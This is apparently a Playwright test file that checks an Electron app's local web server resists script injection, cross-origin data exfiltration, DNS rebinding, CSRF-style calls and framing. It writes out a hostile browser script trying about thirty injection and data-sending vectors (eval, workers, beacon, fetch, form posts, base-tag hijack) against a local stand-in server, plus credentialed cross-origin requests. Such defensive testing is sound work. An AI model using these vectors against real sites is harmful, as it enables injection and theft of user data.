import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { startServer, type RunningServer } from "../../electron/browser/server.ts";
import { launchChromium } from "./chromium.ts";
import { smallPage, type SmallPage } from "./small-page.ts";
import { smallRouter, type Reached } from "./small-router.ts";

/** Another server of this machine, that grants every page everything and keeps what reached it. */
interface Elsewhere {
  readonly origin: string;
  readonly asked: string[];
  readonly pages: Map<string, string>;
  close(): Promise<void>;
}

async function startElsewhere(): Promise<Elsewhere> {
  const asked: string[] = [];
  const pages = new Map<string, string>();
  const server: Server = createServer((request, response) => {
    const path = request.url ?? "/";
    asked.push(path);
    response.setHeader("access-control-allow-origin", "*");
    const body = pages.get(path);
    response.setHeader("content-type", path.endsWith(".js") ? "text/javascript" : "text/html");
    response.end(body ?? "");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  return {
    origin: `http://127.0.0.1:${port}`,
    asked,
    pages,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/**
 * What a hostile script would try, as a file of the page itself: attacks typed into the browser's tools would run
 * outside of the policy. Each attack ends in `done` or in what stopped it.
 */
function attackScript(elsewhere: string): string {
  return `
const to = (path) => ${JSON.stringify(elsewhere)} + path;
const element = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));
const settled = (node) => new Promise((resolve) => { node.onload = () => resolve("done"); node.onerror = () => resolve("error"); });
const attacks = {
  "inline script": () => window.inlineRan === true ? "done" : "not run",
  "inline handler": () => { document.getElementById("handler").click(); return window.handlerRan === true ? "done" : "not run"; },
  "eval": () => (0, eval)("'done'"),
  "Function": () => new Function("return 'done'")(),
  "timer with text": () => new Promise((resolve) => { window.timerRan = () => resolve("done"); setTimeout("window.timerRan()", 0); setTimeout(() => resolve("not run"), 300); }),
  "innerHTML": () => { document.getElementById("sink").innerHTML = "<img src=x>"; return "done"; },
  "document.write": () => { document.write("<p>x</p>"); return "done"; },
  "DOMParser": () => { new DOMParser().parseFromString("<p>x</p>", "text/html"); return "done"; },
  "script text": () => { const script = document.createElement("script"); script.textContent = "window.scriptRan = true"; document.body.append(script); return window.scriptRan === true ? "done" : "not run"; },
  "script from elsewhere": () => { const script = document.createElement("script"); script.src = to("/script.js"); const end = settled(script); document.body.append(script); return end; },
  "import from elsewhere": () => import(to("/module.js")).then(() => "done"),
  "worker from elsewhere": () => { new Worker(to("/worker.js")); return "done"; },
  "worker from text": () => new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + to("/blob-worker") + "', { mode: 'no-cors' }).then(() => postMessage('done'), () => postMessage('error'))"]))); worker.onmessage = (event) => resolve(event.data); worker.onerror = () => resolve("error"); }),
  "fetch": () => fetch(to("/fetch")).then(() => "done"),
  "fetch without reading": () => fetch(to("/no-cors"), { mode: "no-cors", method: "POST", body: "contract" }).then(() => "done"),
  "request": () => new Promise((resolve) => { const request = new XMLHttpRequest(); request.open("GET", to("/xhr")); request.onload = () => resolve("done"); request.onerror = () => resolve("error"); request.send(); }),
  "beacon": () => { navigator.sendBeacon(to("/beacon"), "contract"); return "sent"; },
  "socket": () => new Promise((resolve) => { const socket = new WebSocket(to("/socket").replace("http", "ws")); socket.onopen = () => resolve("done"); socket.onerror = () => resolve("error"); }),
  "event source": () => new Promise((resolve) => { const source = new EventSource(to("/events")); source.onerror = () => { source.close(); resolve("error"); }; }),
  "image": () => settled(element("img", { src: to("/image.png") })),
  "style sheet": () => settled(element("link", { rel: "stylesheet", href: to("/style.css") })),
  "background": () => { element("div", { style: "width:9px;height:9px;background:url(" + to("/background.png") + ")" }); return "set"; },
  "font": () => new FontFace("x", "url(" + to("/font.woff2") + ")").load().then(() => "done"),
  "prefetch": () => { element("link", { rel: "prefetch", href: to("/prefetch") }); return "set"; },
  "preload": () => settled(element("link", { rel: "preload", as: "image", href: to("/preload.png") })),
  "frame": () => { element("iframe", { src: to("/frame") }); return "set"; },
  "object": () => { element("object", { data: to("/object") }); return "set"; },
  "video": () => settled(element("video", { src: to("/video.mp4") })),
  "form": () => { const form = element("form", { action: to("/form"), method: "POST", target: "_blank" }); form.requestSubmit(); return "set"; },
  "base": () => { document.head.append(Object.assign(document.createElement("base"), { href: to("/based/") })); return document.baseURI.startsWith(to("/")) ? "done" : "not set"; },
};
const results = {};
for (const [name, attack] of Object.entries(attacks)) {
  const limit = new Promise((resolve) => setTimeout(() => resolve("no answer"), 2000));
  try { results[name] = await Promise.race([attack(), limit]); } catch (error) { results[name] = error.name; }
}
window.results = results;
`;
}

const attackedPage = `<!doctype html><html><head><title>Attacked</title></head><body>
<script>window.inlineRan = true;</script>
<button id="handler" onclick="window.handlerRan = true">x</button><p id="sink"></p>
<script type="module" src="/attack.js"></script></body></html>`;

let folder: string;
let browser: BrowserContext;
let elsewhere: Elsewhere;
let page: SmallPage;
let server: RunningServer;
let reached: Reached;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "headnote-chromium-"));
  browser = await launchChromium(folder, ["--host-resolver-rules=MAP rebind.evil.test 127.0.0.1"]);
});
afterAll(async () => {
  await browser.close();
  rmSync(folder, { recursive: true, force: true });
});
beforeEach(async () => {
  elsewhere = await startElsewhere();
  page = smallPage({ "attack.js": attackScript(elsewhere.origin) }, attackedPage);
  reached = { calls: [], streamsEnded: 0 };
  server = await startServer({ router: smallRouter(reached), page: page.folder });
});
afterEach(async () => {
  for (const tab of browser.pages()) await tab.close();
  await server.close();
  await elsewhere.close();
  page.remove();
});

async function results(tab: Page): Promise<Record<string, string>> {
  // Asked again and again from here: waiting inside the page would take eval, which the page does not have.
  await expect.poll(() => tab.evaluate("window.results !== undefined"), { timeout: 30_000 }).toBe(true);
  return tab.evaluate("window.results");
}

describe("the page in a real browser", () => {
  it("runs its own files and nothing else, and reaches no other server", async () => {
    const tab = await browser.newPage();
    await tab.goto(server.url);
    expect(tab.url()).toBe(`${server.origin}/`);
    const found = await results(tab);
    expect(Object.entries(found).filter(([, result]) => result === "done")).toEqual([]);
    expect(found).toMatchInlineSnapshot(`
      {
        "DOMParser": "TypeError",
        "Function": "EvalError",
        "background": "set",
        "base": "not set",
        "beacon": "sent",
        "document.write": "TypeError",
        "eval": "EvalError",
        "event source": "error",
        "fetch": "TypeError",
        "fetch without reading": "TypeError",
        "font": "NetworkError",
        "form": "set",
        "frame": "set",
        "image": "error",
        "import from elsewhere": "TypeError",
        "inline handler": "not run",
        "inline script": "not run",
        "innerHTML": "TypeError",
        "object": "TypeError",
        "prefetch": "set",
        "preload": "error",
        "request": "error",
        "script from elsewhere": "TypeError",
        "script text": "TypeError",
        "socket": "error",
        "style sheet": "error",
        "timer with text": "TypeError",
        "video": "error",
        "worker from elsewhere": "TypeError",
        "worker from text": "TypeError",
      }
    `);
    expect(elsewhere.asked).toEqual([]);
  });

  it("would do all of it without the headers", async () => {
    // The same page and script from a server that sends none: were an attack broken, the test above would prove nothing.
    elsewhere.pages.set("/open", attackedPage);
    elsewhere.pages.set("/attack.js", attackScript("http://localhost:" + new URL(elsewhere.origin).port));
    const tab = await browser.newPage();
    await tab.goto(`${elsewhere.origin}/open`);
    const found = await results(tab);
    const doneHere = [
      "inline script",
      "inline handler",
      "eval",
      "Function",
      "timer with text",
      "innerHTML",
      "document.write",
      "DOMParser",
      "script text",
      "script from elsewhere",
      "import from elsewhere",
      "worker from text",
      "base",
    ];
    expect(doneHere.filter((name) => found[name] !== "done")).toEqual([]);
    const paths = [
      "/fetch",
      "/no-cors",
      "/xhr",
      "/beacon",
      "/image.png",
      "/style.css",
      "/background.png",
      "/script.js",
      "/module.js",
      "/font.woff2",
      "/prefetch",
      "/preload.png",
      "/frame",
      "/object",
      "/video.mp4",
      "/form",
      "/events",
      "/blob-worker",
    ];
    expect(paths.filter((path) => !elsewhere.asked.includes(path))).toEqual([]);
  });

  it("starts its own worker through its one policy, and may make no other", async () => {
    const script = `
const outcome = (act) => { try { act(); return "done"; } catch (error) { return error.name; } };
const policy = window.trustedTypes.createPolicy("headnote-worker", { createScriptURL: (url) => url });
const ended = (worker) => new Promise((resolve) => { worker.onmessage = (event) => resolve(event.data); worker.onerror = () => resolve("refused"); });
const style = document.head.appendChild(document.createElement("style"));
window.results = {
  own: await ended(new Worker(policy.createScriptURL("/worker.js"), { type: "module" })),
  blob: await ended(new Worker(policy.createScriptURL(URL.createObjectURL(new Blob(["postMessage('ran')"]))))),
  text: outcome(() => new Worker("/worker.js")),
  again: outcome(() => window.trustedTypes.createPolicy("headnote-worker", {})),
  other: outcome(() => window.trustedTypes.createPolicy("default", {})),
  style: outcome(() => { style.textContent = "p{}"; }),
  sheet: outcome(() => new CSSStyleSheet().replaceSync("p{}")),
};`;
    const trusting = smallPage(
      { "attack.js": script, "worker.js": "postMessage('ran')" },
      '<!doctype html><body><script type="module" src="/attack.js"></script></body>',
    );
    const other = await startServer({ router: smallRouter(reached), page: trusting.folder });
    const tab = await browser.newPage();
    await tab.goto(other.url);
    expect(await results(tab)).toEqual({
      own: "ran",
      blob: "refused",
      text: "TypeError",
      again: "TypeError",
      other: "TypeError",
      style: "done",
      sheet: "done",
    });
    await other.close();
    trusting.remove();
  });

  it("keeps its cookie from scripts, and stays open after a reload and in another tab", async () => {
    const tab = await browser.newPage();
    await tab.goto(server.url);
    expect(await tab.evaluate("document.cookie")).toBe("");
    expect((await tab.reload())?.status()).toBe(200);
    const other = await browser.newPage();
    expect((await other.goto(`${server.origin}/`))?.status()).toBe(200);
  });

  it("does not answer under a name that was rebound to this machine", async () => {
    const tab = await browser.newPage();
    await tab.goto(server.url);
    const port = new URL(server.origin).port;
    const answer = await tab.goto(`http://rebind.evil.test:${port}/`);
    expect(answer?.status()).toBe(421);
    const call = await tab.evaluate(
      `fetch("/rpc/app/info", { method: "POST", body: "{}" }).then((answer) => answer.status)`,
    );
    expect(call).toBe(421);
    expect(reached.calls).toEqual([]);
  });

  it("answers its own page's calls, and none of a page on another port with the same cookie", async () => {
    const tab = await browser.newPage();
    await tab.goto(server.url);
    const own = await tab.evaluate(
      `fetch("/rpc/app/info", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" }).then((answer) => answer.status)`,
    );
    expect([own, reached.calls]).toEqual([200, ["app.info"]]);

    elsewhere.pages.set("/evil", "<!doctype html><title>Evil</title><body></body>");
    await tab.goto(`${elsewhere.origin}/evil`);
    const sent: string[] = [];
    tab.on("request", (request) => {
      if (request.url().startsWith(server.origin)) sent.push(new URL(request.url()).pathname);
    });
    const tried = await tab.evaluate(`(async () => {
      const at = (path) => ${JSON.stringify(server.origin)} + path;
      const outcome = (promise) => promise.then((value) => value, (error) => error.name);
      const settled = (name, fields) => new Promise((resolve) => {
        const node = Object.assign(document.createElement(name), fields, { onload: () => resolve("loaded"), onerror: () => resolve("refused") });
        document.body.append(node);
      });
      const form = Object.assign(document.createElement("form"), { action: at("/rpc/app/info"), method: "POST", enctype: "text/plain", target: "result" });
      const frame = Object.assign(document.createElement("iframe"), { name: "result" });
      document.body.append(frame, form);
      form.submit();
      return {
        read: await outcome(fetch(at("/"), { credentials: "include" }).then((answer) => answer.text())),
        call: await outcome(fetch(at("/rpc/app/info"), { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: "{}" }).then((answer) => answer.status)),
        blind: await outcome(fetch(at("/rpc/app/info"), { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }).then((answer) => answer.type)),
        script: await settled("script", { src: at("/attack.js") }),
        image: await settled("img", { src: at("/assets/index-1a2b.js") }),
      };
    })()`);
    expect(tried).toEqual({
      read: "TypeError",
      call: "TypeError",
      blind: "TypeError",
      script: "refused",
      image: "refused",
    });
    // They did leave the browser, with the cookie, and were refused at the door.
    expect(sent).toEqual(expect.arrayContaining(["/", "/rpc/app/info", "/attack.js"]));
    expect(reached.calls).toEqual(["app.info"]);
  });

  it("is not shown in another page's frame", async () => {
    elsewhere.pages.set("/evil", `<!doctype html><title>Evil</title><iframe id="f" src="${server.origin}/"></iframe>`);
    const tab = await browser.newPage();
    await tab.goto(server.url);
    await tab.goto(`${elsewhere.origin}/evil`);
    const frame = tab.frames().find((candidate) => candidate !== tab.mainFrame());
    expect(await frame?.title()).not.toBe("Attacked");
  });
});
